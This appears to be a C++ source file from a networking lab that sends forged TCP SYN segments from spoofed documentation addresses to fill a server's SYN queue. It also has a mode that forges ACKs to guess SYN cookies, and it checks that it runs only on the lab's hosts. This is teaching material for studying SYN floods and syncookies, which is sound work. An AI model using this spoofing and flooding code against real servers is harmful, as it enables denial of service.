// syn_flood: forges SYNs of clients that are not there. They never answer the
// server's SYN ACK, so each holds a place in the SYN queue.
//
// Watch:  SYN-RECV, as many as the backlog + 1; and who still gets in.
// Read:   raw(7), tcp(7) "tcp_syncookies"; RFC 4987, RFC 5737 (the addresses).
// Run:    labs/11_two_queues/run.sh flood_0
//
// It runs on the lab's own two hosts alone, and sends through their wire alone.

#include <netinet/in.h>
#include <sys/socket.h>

#include <cstring>
#include <stdexcept>

#include "common/host/host.h"
#include "common/narrate/narrate.h"
#include "common/narrate/options.h"
#include "common/packet/forge.h"
#include "common/socket/address.h"
#include "common/socket/fd.h"

namespace {

// From 198.51.100.N, which is nobody's, to the server.
packet::Packet segment_of(int n, const Address& server) {
  const std::uint8_t source[] = {198, 51, 100, static_cast<std::uint8_t>(n)};
  const auto* to = reinterpret_cast<const sockaddr_in*>(server.get());
  packet::Packet segment;
  std::memcpy(segment.source.address.data(), source, sizeof source);
  segment.source.port = static_cast<std::uint16_t>(40000 + n);
  std::memcpy(segment.destination.address.data(), &to->sin_addr, 4);
  segment.destination.port = server.port();
  segment.seq = 1000;
  segment.flags = packet::SYN;
  segment.window = 65535;
  return segment;
}

}  // namespace

int main(int argc, char** argv) try {
  const Options options =
      parse(argc, argv,
            "syn_flood [--host H] [--port P] [--count N] [--guess]\n"
            "Sends forged SYNs, inside scripts/two_hosts.sh and nowhere else.\n"
            "--count N    so many, each from an address of its own (10; 254 at "
            "most)\n"
            "--guess      no SYN, but the ACK of a cookie that was never sent");
  const int count = options.number("--count", 10);
  if (count < 1 || count > 254) throw UsageError{"--count takes 1 to 254"};
  if (!host::is_lab_host())
    throw std::runtime_error{
        "this is no host of the lab, and forged segments stay there: run it in "
        "scripts/lab shell client, or in a scene"};
  const Address server = resolve(options.host, options.port);
  if (server.family() != AF_INET)
    throw UsageError{"--host takes an IPv4 address, such as server"};

  // We write the IP header, too: so the source may be any address.
  const Fd raw{must(CALL(::socket(AF_INET, SOCK_RAW, IPPROTO_RAW)))};
  must(CALL(::setsockopt(raw.get(), SOL_SOCKET, SO_BINDTODEVICE, "wire", 4)));

  for (int n = 1; n <= count; ++n) {
    packet::Packet forged = segment_of(n, server);
    if (options.has("--guess")) {
      forged.flags = packet::ACK;
      forged.source.port += 1000;  // whose SYN the server has not seen
      forged.ack = 4711;           // a cookie + 1, if we are very lucky
    }
    const auto bytes = packet::forge(forged);
    must(CALL(::sendto(raw.get(), bytes.data(), bytes.size(), 0, server.get(),
                       server.size())));
  }
  step("flooded");
  return 0;
} catch (const std::exception& error) {
  return report(error);
}
